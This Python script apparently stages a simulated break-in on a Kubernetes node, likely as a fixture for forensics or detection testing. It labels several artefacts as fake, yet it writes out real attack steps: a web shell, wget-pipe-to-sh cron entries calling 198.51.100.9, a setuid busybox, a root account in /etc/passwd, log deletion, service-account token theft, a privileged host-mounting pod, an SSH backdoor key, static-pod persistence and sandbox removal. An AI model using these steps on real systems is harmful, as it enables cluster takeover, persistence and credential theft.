"""The break-in: through the shop's upload page to the node, and what was tidied away."""
import time

from kubelet import Pod, call, ended, execute, write

FRONT = next(c["id"] for c in call("ListContainers")["containers"] if c["metadata"]["name"] == "front" and c["state"] == "CONTAINER_RUNNING")
LOG = "/proc/1/fd/1"

# What the web shell ran. Its lines in the log are those of the server that was asked for it.
execute(FRONT, f"""
  echo '<?php /* FAKE web shell */' >/srv/www/cache/.c.php; echo 'POST /upload.php 200' >{LOG}
  echo 'GET /cache/.c.php?c=wget+-q+-O-+http://198.51.100.9/k.sh|sh 200' >{LOG}
  mkdir -p /tmp/.x; printf '\\177ELF stand-in for a miner\\n' >/tmp/.x/kworkerd; chmod 755 /tmp/.x/kworkerd; touch -d '2015-03-04 05:06:07' /tmp/.x/kworkerd
  cp /bin/busybox /usr/lib/.helper; chmod 4755 /usr/lib/.helper
  echo '* * * * * root wget -q -O - http://198.51.100.9/k.sh | sh' >>/etc/crontab
  echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd
  rm /var/log/auth.log; echo '<h1>owned</h1>' >/srv/www/index.html
  cat /var/run/secrets/kubernetes.io/serviceaccount/token >/tmp/.t; echo staged >/data/.stage""")
time.sleep(0.5)

# A shell of somebody who tries what the token is good for; removed again.
debug = Pod("default", "debug-z4rtw", labels={"run": "debug"}).start()
shell = debug.run("debug", "registry.shop.example/shop/job:1.0", ["sh", "-c", "echo fetching http://198.51.100.9/stage2; cat /etc/passwd"])
ended(shell)
debug.remove(shell)

# A pod that owns the node, under a harmless name.
metrics = Pod("kube-system", "node-metrics-8h2lc", host=True, labels={"k8s-app": "node-metrics"}).start()
owner = metrics.run("metrics", "docker.io/nodetools/metrics:latest", mounts=[("/", "/host", False)])
execute(owner, """
  echo '*/5 * * * * root wget -q -O - http://198.51.100.9/k.sh | sh' >/host/etc/cron.d/.kube-sync
  mkdir -p /host/root/.ssh; echo 'ssh-ed25519 AAAAFAKEFAKEFAKE mallory@192.0.2.66' >/host/root/.ssh/authorized_keys
  ls /host/var/lib/kubelet/pods >/tmp/pods; cat /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token >/tmp/.tokens""")
time.sleep(1)

# It comes back with the node: a static pod.
image = "docker.io/nodetools/metrics:latest"
write("/etc/kubernetes/manifests/kube-cache.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: kube-cache, namespace: kube-system}\n"
      f"spec: {{hostPID: true, containers: [{{name: cache, image: '{image}', securityContext: {{privileged: true}}}}]}}\n", 0o644)
cache = Pod("kube-system", "kube-cache-node7", source="file", host=True, uid="c1a7e90f2d6b48538e04bb1f6a92d7c3").start()
cache.run("cache", image)

# The job that failed is gone, sandbox and all.
for pod in call("ListPodSandbox")["items"]:
    if pod["metadata"]["name"].startswith("export-"):
        for container in call("ListContainers", filter={"pod_sandbox_id": pod["id"]})["containers"]:
            call("RemoveContainer", container_id=container["id"])
        call("RemovePodSandbox", pod_sandbox_id=pod["id"])
time.sleep(1)
